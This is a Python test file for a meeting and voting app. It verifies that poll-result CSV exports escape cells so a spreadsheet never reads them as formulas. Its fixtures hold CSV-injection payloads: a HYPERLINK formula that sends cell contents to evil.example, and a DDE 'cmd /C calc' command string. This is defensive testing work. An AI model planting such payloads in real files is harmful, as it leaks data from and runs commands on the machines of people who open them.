"""Poll results as CSV, opened in a spreadsheet: no cell may be read as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile

import asyncpg
import httpx

from tests.conftest import Server, build_world
from tests.yclient import YClient

# Every start a spreadsheet reads as a formula or a command (OWASP, CSV injection).
QUESTION = "=HYPERLINK(\"http://evil.example/?\"&A1, \"Bấm vào đây\")"
OPTIONS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
NAMES = {"delegate01": "\t=evil()", "delegate02": "\r@evil()", "delegate03": "-Nguyễn Văn A"}
TITLE = "+Họp giao ban"


async def _intent(client: YClient, kind: str, args: dict[str, object]) -> dict[str, object]:
    reply = await client.intent(kind, args)
    assert reply["ok"], (kind, reply)
    result: dict[str, object] = reply["result"] or {}
    return result


def _cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
            for c in row]


def _assert_inert(cells: list[str]) -> None:
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", repr(cell)
    # The text itself is kept, behind the quote a spreadsheet shows as nothing.
    for text in [QUESTION, *OPTIONS, *NAMES.values(), TITLE]:
        assert "'" + text in cells, text


async def test_poll_csv_cells_never_start_a_formula(server: Server) -> None:
    world = await build_world(server.database_url, delegates=3)
    conn = await asyncpg.connect(world.url)
    try:
        for who, name in NAMES.items():
            await conn.execute("UPDATE users SET full_name = $2 WHERE id = $1",
                               world.users[who], name)
        await conn.execute("UPDATE meetings SET title = $2 WHERE id = $1", world.meeting_id,
                           TITLE)
    finally:
        await conn.close()
    voters = ("chair", "delegate01", "delegate02", "delegate03")
    clients = dict(zip(voters, await asyncio.gather(*(
        YClient(server.ws, f"meeting/{world.meeting_id}/room", world.token(who)).connect()
        for who in voters)), strict=True))
    try:
        chair = clients["chair"]
        await _intent(chair, "session.open", {})
        for who in voters:
            await _intent(clients[who], "attendance.check_in", {})
        poll = (await _intent(chair, "poll.open", {"question": QUESTION, "options": OPTIONS,
                                                   "kind": "named",
                                                   "rule": "present_majority"}))["poll"]
        for n, who in enumerate(voters):
            await _intent(clients[who], "vote.cast", {"poll": poll, "choice": n})
        await _intent(chair, "poll.close", {"poll": poll})
        await _intent(chair, "session.close", {})
    finally:
        await asyncio.gather(*(c.close() for c in clients.values()))

    async with httpx.AsyncClient(base_url=server.http, timeout=60, headers={
            "authorization": f"Bearer {world.token('secretary')}"}) as client:
        r = await client.get(f"/api/polls/{poll}/result.csv")
        assert r.status_code == 200, r.text
        _assert_inert(_cells(r.content))
        r = await client.get(f"/api/meetings/{world.meeting_id}/export.zip")
        assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        _assert_inert(_cells(archive.read(f"bieu-quyet/bieu-quyet-{poll}.csv")))
